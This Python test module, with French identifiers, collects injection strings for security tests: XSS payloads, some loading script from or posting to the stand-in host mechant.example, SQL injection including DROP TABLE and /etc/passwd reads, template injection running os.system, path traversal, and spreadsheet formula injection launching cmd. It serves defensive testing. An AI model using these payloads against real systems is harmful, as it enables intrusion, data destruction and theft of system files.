"""Strings made to break a page, a query, a file or a document, for the tests of injection. Project-made.

`PIRATE` is what a string that runs would set: a test looks for it in the browser's window.
"""

from __future__ import annotations

PIRATE = "pirate"

_BALISES = (
    "<script>window.pirate=1</script>",
    "<SCRIPT SRC=//mechant.example/x.js></SCRIPT>",
    "<img src=x onerror=window.pirate=1>",
    "<svg onload=window.pirate=1>",
    "<svg><animate onbegin=window.pirate=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.pirate=1>",
    "<iframe srcdoc='<script>parent.pirate=1</script>'></iframe>",
    "<body onload=window.pirate=1>",
    "<a href=javascript:window.pirate=1>lien</a>",
    "<input autofocus onfocus=window.pirate=1>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//mechant.example'>",
    "<base href=//mechant.example/>",
    "<form action=//mechant.example><button>ok</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pirate=1>",
    "</title></p></div></section><script>window.pirate=1</script>",
    "<!--><script>window.pirate=1</script>-->",
    "<![CDATA[<script>window.pirate=1</script>]]>",
    "&lt;script&gt;window.pirate=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pirate=1&#62;",
)
_ATTRIBUTS = (
    '" onmouseover="window.pirate=1',
    "' onmouseover='window.pirate=1",
    '"><script>window.pirate=1</script>',
    "'><img src=x onerror=window.pirate=1>",
    "` onclick=window.pirate=1 `",
    "javascript:window.pirate=1",
    "data:text/html,<script>window.pirate=1</script>",
    '" style="position:fixed;inset:0',
)
_REQUETES = (
    "' OR '1'='1",
    "'; DROP TABLE cellules; --",
    '"; DELETE FROM read_parquet(?); --',
    "1 UNION SELECT office_id, nom FROM offices",
    "COMMUNE' AND 1=CAST((SELECT nom) AS INT)--",
    "') OR read_csv('/etc/passwd') --",
    "$1; ATTACH 'x.db'; --",
    "\\'; --",
    "%' OR nom LIKE '%",
)
_GABARITS = (
    "{{7*7}}",
    "{nom}",
    "{0.__class__.__mro__}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%s%s%n",
    "%(valeur)s",
    "__import__('os').system('id')",
    ":material/warning: :red[texte]",
    "[lien](javascript:window.pirate=1)",
    "![image](x) **gras** `code`",
    "$$\\frac{1}{0}$$",
)
_CHEMINS = (
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/shadow",
    "%2e%2e%2fmanifeste.json",
    "C:\\CON",
    "2026-01/../..",
)
_FORMULES = (
    "=1+1",
    '=HYPERLINK("http://mechant.example";"ici")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
)
_SIGNES = (
    "\u202e\u2066inversé\u2069\u202c",
    "مدينة الوساطة",
    "\u200b\u200d\ufeffinvisible\u2060",
    "Ville 🏛️👩🏽‍⚖️🇫🇷",
    "e\u0301\u0323\u0302\u0306 accents empilés",
    "nul\x00octet",
    "contrôle\x01\x08\x0b\x1b[31m",
    "fin\u2028de\u2029ligne",
    "\ud7ff\ue000\U0010fffd",
    "ＣＯＭＭＵＮＥ",
    "null",
    "None",
    "NaN",
    "-1",
    "1e309",
    "9" * 40,
    "A" * 6000,
    "Ville d’Été " * 300,
)

CHAINES: tuple[str, ...] = (*_BALISES, *_ATTRIBUTS, *_REQUETES, *_GABARITS, *_CHEMINS, *_FORMULES, *_SIGNES)
